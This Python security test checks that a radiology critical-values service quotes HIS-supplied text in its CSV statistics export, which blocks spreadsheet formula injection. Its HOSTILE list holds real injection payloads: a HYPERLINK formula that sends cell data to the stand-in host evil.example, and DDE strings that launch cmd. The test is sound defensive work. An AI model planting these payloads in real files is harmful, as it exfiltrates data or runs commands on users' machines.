"""CSV exports never hand a spreadsheet a formula (issue 18, 8): HIS-supplied text (a department, an
ordering doctor, a modality) that starts with = + - @, a tab or a carriage return reaches the
critical-values statistics export quoted, so Excel/WPS show it as text."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, datetime, timedelta

import httpx
from critical_values.domain import recipients
from imaging_common.csvsafe import DANGEROUS_FIRST

from security.conftest import Sandbox

API = "/api/critical-values"
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1"]


async def test_statistics_csv_quotes_formula_cells(sandbox: Sandbox) -> None:
    uid = uuid.uuid4().hex[:8]
    pool = sandbox.apps["critical_values"].state.ctx.pool
    async with httpx.AsyncClient(base_url=sandbox.url, timeout=30) as api:
        for n, text in enumerate(HOSTILE):
            accession = f"CSV{uid}{n}"
            # What order.created from the HIS leaves in critical values: its department and doctor as sent.
            async with pool.acquire() as conn:
                await recipients.remember_order(
                    conn, accession_number=accession, order_id=f"O-{accession}",
                    patient={"patient_id": f"P{uid}", "name": "张三"}, patient_class="O",
                    ordering_doctor_id=f"D{n}", ordering_doctor=f"{text}{uid}", ordering_department=f"{text}{uid}",
                    ward=None, modality="CT")
            r = await api.post(f"{API}/critical-values", headers=sandbox.headers("radiologist"), json={
                "accession_number": accession, "finding": "气胸", "modality": f"{text}{uid}"})
            assert r.status_code == 201, r.text
        now = datetime.now(UTC)
        window = {"start": (now - timedelta(minutes=5)).isoformat(), "end": (now + timedelta(minutes=5)).isoformat()}
        for group in ("department", "doctor", "modality"):
            r = await api.get(f"{API}/stats", params={**window, "group_by": group, "format": "csv"},
                              headers=sandbox.headers("senior-radiologist"))
            assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv"), r.text
            rows = list(csv.reader(io.StringIO(r.text, newline="")))
            ours = [row for row in rows[1:] if uid.upper() in row[0].upper()]  # a modality is kept upper-case
            assert len(ours) == len(HOSTILE), (group, rows)
            for row in rows:
                for value in row:
                    number = value.lstrip("+-").replace(".", "").isdigit()
                    assert not value or value[0] not in DANGEROUS_FIRST or number, (group, value)
            # Quoted, not altered: the text after the quote is what the HIS sent.
            assert sorted(row[0].upper() for row in ours) == sorted(f"'{text}{uid}".upper() for text in HOSTILE), (
                group, ours)
            # The numbers stay numbers.
            assert all(row[1] == "1" for row in ours), ours
